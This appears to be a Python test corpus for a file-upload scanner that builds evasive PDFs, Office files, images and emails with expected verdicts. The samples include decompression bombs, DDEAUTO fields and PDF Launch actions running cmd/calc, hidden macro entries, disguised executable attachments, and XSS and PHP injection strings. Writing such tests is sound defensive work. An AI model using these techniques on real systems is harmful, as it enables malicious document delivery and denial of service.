"""What is said in a roundabout way: a word in an object of its own, a bomb behind a second wrapper, a part under another
name, a mail nobody can read. And honest papers that look a little like these."""

import base64
import io
import os
import struct
import zlib

from PIL import Image

from tests.documents.corpus.office_files import SHEET, field, paragraph, relations, zipped
from tests.documents.corpus.others import PLAIN, attached, mail
from tests.documents.corpus.pdfs import filtered, one_page, raw_pdf, stream
from tests.documents.corpus.pictures import jpeg2000, jpeg_header
from tests.documents.corpus.verdicts import CAREFUL, NO, OLE, TAKEN, YES, flate
from tests.documents.hostile import RELATIONS, office
from tests.documents.samples import pdf, photo

ELSEWHERE = "\\\\\\\\198.51.100.7\\\\a.pdf"


def link(action, *rest):
    return one_page(b"", "", f"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<<{action}>>>>]", *rest)


def utf16(words):
    return f"<FEFF{words.encode('utf-16-be').hex()}>"


def zeros(megabytes):
    """LZW: each word is the last and one more, so that six kilobytes hold seven megabytes."""
    codes, total = [], 0
    while total < megabytes * 2**20:
        codes += [(256, 12 if codes else 9), (0, 9)]
        total, length = total + 1, 1
        for code in range(258, 4094):
            codes.append((code, 9 if code < 511 else 10 if code < 1023 else 11 if code < 2047 else 12))
            length += 1
            total += length
            if total >= megabytes * 2**20:
                break
    out, held, bits = bytearray(), 0, 0
    for code, wide in [*codes, (257, 12), (0, 8)]:
        held, bits = held << wide | code, bits + wide
        while bits >= 8:
            bits -= 8
            out.append(held >> bits & 255)
        held &= (1 << bits) - 1
    return bytes(out)


def picture(data, filters, more=""):
    shown = stream(
        data, Type="/XObject", Subtype="/Image", Width=10, Height=10, ColorSpace="/DeviceGray", BitsPerComponent=8,
        Filter=filters + more,
    )  # fmt: skip
    return one_page(b"q 500 0 0 700 0 0 cm /I Do Q", "", "/Resources<</XObject<</I 5 0 R>>>>", shown)


def inline(entries, data):
    return one_page(b"q 500 0 0 700 0 0 cm BI " + entries + b" ID " + data + b" EI Q")


def form(content, more="/Resources<</XObject<</F 5 0 R>>>>", data=None, **entries):
    made = stream(content if data is None else data, Type="/XObject", Subtype="/Form", BBox="[0 0 9 9]", **entries)
    shelf = "/Resources<</XObject<</F 5 0 R>>>>"
    return one_page(b"/F Do", "", shelf, made.replace(b"/BBox", more.encode() + b"/BBox", 1))


def predicted(content):
    row = bytes([1]) + bytes((new - old) % 256 for new, old in zip(content, b"\0" + content, strict=False))
    return zlib.compress(row)


def packed_objects(swell):
    """A catalogue whose neighbours stand in a stream of objects that is nearly all blanks."""
    plain = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
             "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>>>"]  # fmt: skip
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.5\n")
    inside = zlib.compressobj(9)
    data = inside.compress(b"5 0 <</X 1>> ") + b"".join(inside.compress(b" " * 2**20) for _ in range(swell))
    bodies = [*(body.encode() for body in plain),
              stream(data + inside.flush(), Type="/ObjStm", N=1, First=4, Filter="/FlateDecode")]  # fmt: skip
    for number, body in enumerate(bodies, 1):
        places.append((1, out.tell(), 0))
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    start = out.tell()
    rows = [(0, 0, 65535), *places, (2, 4, 0), (1, start, 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    end = stream(table, Type="/XRef", Size=7, W="[1 4 2]", Root="1 0 R", Filter="/FlateDecode")
    out.write(b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (end, start))
    return out.getvalue()


def for_certain_people():
    handler = (
        b"/Encrypt<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/Length 128/StmF/D/StrF/D"
        b"/CF<</D<</CFM/AESV2/Length 16/Recipients[(x)]>>>>>>/ID[(aaaaaaaaaaaaaaaa)(aaaaaaaaaaaaaaaa)]"
    )
    return one_page().replace(b"/Root 1 0 R", b"/Root 1 0 R" + handler)


def drawn_over(times):
    out = io.BytesIO()
    Image.new("L", (2000, 2000), 128).save(out, "JPEG", progressive=True, quality=10)
    data = out.getvalue()
    last, end = data.rfind(b"\xff\xda"), data.rfind(b"\xff\xd9")
    return data[:end] + data[last:end] * times + data[end:]


def spelt(words):
    return field(" QUOTE " + " ".join(str(ord(c)) for c in words) + " ")


def letter_under_another_name():
    heart = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/word/real.dat" ContentType="{heart}"/></Types>'
    )
    top = f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="officeDocument" Target="word/real.dat"/></Relationships>'
    return office(types=types, more=[("_rels/.rels", top), ("word/real.dat", field('DDEAUTO cmd "/k calc"'))])


def unlisted():
    """An entry that only those find who read the archive from its beginning."""
    made, inner = office(), zipped(("word/vbaProject.bin", OLE))
    at, entry = made.find(b"PK\x01\x02"), inner[: inner.find(b"PK\x01\x02")]
    both = bytearray(made[:at] + entry + made[at:])
    place = both.rfind(b"PK\x05\x06") + 16
    both[place : place + 4] = struct.pack("<I", at + len(entry))
    return bytes(both)


def letter(kind, body="x"):
    head = "From: a@example.com\r\nTo: b@c.example\r\nDate: Wed, 18 Nov 2026 09:40:00 +0100\r\nSubject: x\r\n"
    return f"{head}Content-Type: {kind}\r\n\r\n{body}\r\n".encode()


def carried(name, data=b"hello hello"):
    return lambda: mail(PLAIN, attached(name, data))


def saved(kind, mode="RGB", **more):
    out = io.BytesIO()
    Image.new(mode, (600, 800)).save(out, kind, **more)
    return out.getvalue()


TWICE = b"/F Do /F Do"
TWO_NAMES = 'Content-Type: application/octet-stream; name="tool.exe"\r\nContent-Disposition: attachment; filename="a.txt"\r\n\r\nx'
ROUNDABOUT = [
    ("launch-elsewhere.pdf", lambda: link("/S 5 0 R/F(calc.exe)", "/Launch"), CAREFUL),
    ("other-file-elsewhere.pdf", lambda: link(f"/S 5 0 R/F({ELSEWHERE})/D[0]", "/GoToR"), CAREFUL),
    ("submit-elsewhere.pdf", lambda: link("/S 5 0 R/F(http://198.51.100.7)", "/SubmitForm"), CAREFUL),
    ("film-elsewhere.pdf", lambda: one_page(b"", "", "/Annots[<</Subtype 5 0 R/Rect[0 0 9 9]>>]", "/RichMedia"), CAREFUL),
    ("address-elsewhere.pdf", lambda: link("/S/URI/URI 5 0 R", "(file:///c:/windows/system32/calc.exe)"), CAREFUL),
    ("address-utf16.pdf", lambda: link(f"/S/URI/URI {utf16('javascript:alert(1)')}"), CAREFUL),
    ("address-utf16-good.pdf", lambda: link(f"/S/URI/URI {utf16('https://provider.example/冻结')}"), YES),
    ("article.pdf", lambda: link(f"/S/Thread/F({ELSEWHERE})/D 0"), CAREFUL),
    ("article-of-its-own.pdf", lambda: one_page(b"", "/Threads[<</Type/Thread/F 3 0 R>>]"), YES),
    ("for-certain-people.pdf", for_certain_people, NO),
    ("packed-objects.pdf", lambda: packed_objects(0), YES),
    ("packed-objects-bomb.pdf", lambda: packed_objects(200), NO),
    ("lzw.pdf", lambda: filtered(zeros(1), "LZWDecode"), YES),
    ("lzw-bomb.pdf", lambda: filtered(zeros(80), "LZWDecode"), NO),
    ("lzw-bomb-wrapped.pdf", lambda: filtered(zlib.compress(zeros(80)), "FlateDecode", "LZWDecode"), NO),
    ("picture-lzw.pdf", lambda: picture(zeros(20), "/LZWDecode"), NO),
    ("picture-lengths.pdf", lambda: picture(b"\x81\0" * 100_000, "/RunLengthDecode"), NO),
    ("picture-a85.pdf", lambda: picture(base64.a85encode(flate(100, byte=b"\0")) + b"~>", "[/A85/Fl]"), NO),
    ("picture-hex.pdf", lambda: picture(flate(100, byte=b"\0").hex().encode() + b">", "[/AHx/Fl]"), NO),
    ("picture-twice.pdf", lambda: picture(flate(300, 2, byte=b"\0"), "[/Fl/Fl]"), NO),
    ("picture-wrapped-jpeg.pdf", lambda: picture(zlib.compress(jpeg_header(65_000, 65_000)), "[/Fl/DCTDecode]"), NO),
    ("picture-wrapped-jpx.pdf", lambda: picture(zlib.compress(jpeg2000(60_000, 60_000)), "[/Fl/JPXDecode]"), NO),
    ("picture-fax.pdf", lambda: picture(b"\0" * 40, "/CCITTFaxDecode", "/DecodeParms<</Columns 60000/Rows 60000>>"), NO),
    ("inline-huge.pdf", lambda: inline(b"/W 30000 /H 30000 /CS /G /BPC 8 /F /Fl", flate(9, byte=b"\0")), NO),
    ("inline-bomb.pdf", lambda: inline(b"/W 10 /H 10 /CS /G /BPC 8 /F /Fl", flate(100, byte=b"\0")), NO),
    ("inline-good.pdf", lambda: inline(b"/W 40 /H 40 /CS /RGB /BPC 8 /F /Fl", zlib.compress(b"\x88" * 4800)), YES),
    ("form-borrows.pdf", lambda: form(TWICE, ""), NO),
    ("form-escaped.pdf", lambda: form(b"/#46 Do /#46 Do"), NO),
    ("form-predicted.pdf", lambda: form(b"", data=predicted(TWICE), Filter="/FlateDecode", DecodeParms="<</Predictor 15/Columns 11>>"), NO),
    ("form-borrows-well.pdf", lambda: form(b"/Other Do", ""), YES),
    ("predictor-of-two-thousand-million.pdf", lambda: one_page(flate(1), Filter="/FlateDecode", DecodeParms="<</Predictor 15/Colors 2147483647/Columns 2147483647>>"), TAKEN | NO),
    ("strings-deep.pdf", lambda: one_page(b"", "/D " + "(" * 90_000 + ")" * 90_000), TAKEN | NO),
    ("tree-deep.pdf", lambda: raw_pdf("<</Type/Catalog/Pages 2 0 R>>", *[f"<</Type/Pages/Kids[{i + 3} 0 R]/Count 1>>" for i in range(3000)], "<</Type/Page/MediaBox[0 0 9 9]/Resources<<>>>>"), TAKEN | NO),
    ("drawn-over.jpg", lambda: drawn_over(400), NO),
    ("progressive.jpg", lambda: saved("JPEG", progressive=True), YES),
    ("telephone.jpg", lambda: photo((900, 900)) + os.urandom(2_000_000), TAKEN),
    ("two-pictures.jpg", lambda: saved("MPO", save_all=True, append_images=[Image.new("RGB", (600, 800))]), YES),
    ("cmyk.jpg", lambda: saved("JPEG", "CMYK"), YES),
    ("16-bit.png", lambda: saved("PNG", "I;16"), YES),
    ("float.tif", lambda: saved("TIFF", "F"), YES),
    ("lab.tif", lambda: saved("TIFF", "LAB"), YES),
    ("jpeg-in.tif", lambda: saved("TIFF", compression="jpeg"), YES),
    ("another-name.docx", letter_under_another_name, CAREFUL),
    ("unlisted.docx", unlisted, CAREFUL),
    ("spelt.docx", lambda: office(body=spelt('DDEAUTO c:\\\\cmd.exe "/k calc"')), CAREFUL),
    ("quoted.docx", lambda: office(body=field(' QUOTE "hello" ')), YES),
    ("letter-within.docx", lambda: office(more=[("word/chunk.docx", office())]), CAREFUL),
    ("page-within.docx", lambda: office(more=[("word/chunk.dat", "<html><script>1</script></html>")]), CAREFUL),
    ("rtf-within.docx", lambda: office(more=[("word/chunk.dat", "{\\rtf1{\\object\\objautlink}}")]), CAREFUL),
    ("ole-as-picture.docx", lambda: office(more=[("word/media/image1.png", OLE + b"\0" * 9000)]), CAREFUL),
    ("font.docx", lambda: office(more=[("word/fonts/font1.odttf", b"<" + bytes(range(128, 255)) * 9)]), YES),
    ("film-of-the-web.docx", lambda: office(body=paragraph('<w:r w:a=""/><wp15:webVideoPr xmlns:wp15="x" embeddedHtml="&lt;iframe&gt;"/>')), CAREFUL),
    ("checked-cell.xlsx", lambda: office(SHEET, more=[("xl/worksheets/sheet1.xml", "<c><formula1>cmd|'/c calc'!A0</formula1></c>")]), CAREFUL),
    ("other-source.xlsx", lambda: office(SHEET, more=[("xl/externalLinks/_rels/a.xml.rels", relations("http://198.51.100.7/a", "oleObject"))]), NO),
    ("endless-sheet.xlsx", lambda: office(SHEET, more=[("xl/worksheets/sheet1.xml", '<worksheet><dimension ref="A1:XFD1048576"/><row r="1048576" ht="409"/></worksheet>')]), YES),
    ("two-names.eml", lambda: mail(PLAIN, TWO_NAMES), CAREFUL),
    ("dots-and-blanks.eml", carried("tool.exe . "), CAREFUL),
    ("second-stream.eml", carried("tool.exe::$DATA"), CAREFUL),
    *[(f"carries-{ending}.eml", carried(f"a.{ending}"), CAREFUL) for ending in ("msc", "xz", "accdb", "apk", "wbk", "xla", "py")],
    *[(f"packed-{n}.eml", carried("scan.pdf", data), CAREFUL) for n, data in enumerate([b"\xfd7zXZ\0", b"BZh91AY&SY", b"{\\rtf1}"])],
    ("page-marked.eml", carried("a.txt", b"\xef\xbb\xbf <html>"), CAREFUL),
    ("page-utf16.eml", carried("a.txt", "<html>".encode("utf-16")), CAREFUL),
    ("locked.eml", lambda: letter("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m"), CAREFUL),
    ("locked-pgp.eml", lambda: mail("Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1", kind="encrypted"), CAREFUL),
    ("signed.eml", lambda: letter("application/pkcs7-mime; smime-type=signed-data; name=smime.p7m"), TAKEN),
    ("body-elsewhere.eml", lambda: mail(PLAIN, 'Content-Type: message/external-body; access-type=URL; URL="http://198.51.100.7/a"\r\n\r\n'), CAREFUL),
    ("marked.eml", lambda: b"\xef\xbb\xbf" + letter("text/plain"), YES),
    ("forty-thousand.eml", lambda: b"From: a@example.com\r\nTo: " + b"a@example.com, " * 40_000 + b"\r\nDate: x\r\n\r\nhi", NO),
    ("parameters.eml", lambda: letter("text/plain; " + "; ".join(f"a{i}*{i}=x" for i in range(20_000))), NO),
    ("encoded-words.eml", lambda: b"From: a@example.com\r\nDate: x\r\nSubject: " + b"=?utf-8?b?YWFh?= " * 90_000 + b"\r\n\r\nhi", NO),
    ("never-closed.eml", lambda: letter("text/html", "<p>hi" + "<!-" * 200_000), TAKEN),
    ("picture.txt", lambda: b"<img src=x onerror=alert(1)>", NO),
    ("short-tag.txt", lambda: b"<?= system(1) ?>", NO),
    ("less-than.txt", lambda: b"< 5 EUR was paid; <b was not", YES),
    ("notice.chm.pdf", lambda: pdf(), CAREFUL),
    ("notice.docm.pdf", lambda: pdf(), CAREFUL),
]  # fmt: skip
